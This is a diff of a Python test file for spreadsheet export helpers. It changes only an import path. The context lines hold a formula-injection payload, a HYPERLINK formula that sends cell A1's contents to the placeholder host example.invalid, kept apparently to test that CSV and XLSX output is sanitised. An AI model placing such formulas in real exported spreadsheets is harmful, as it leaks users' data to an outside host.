@@ -7,8 +7,8 @@ import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import select, update
 
+from core.spreadsheets import csv_value, xlsx_row
 from reports_factory import add_campaign
-from spreadsheets import csv_value, xlsx_row
 
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
 # The payloads of the review: "+" or "-" before a digit used to pass as a phone or a negative number.
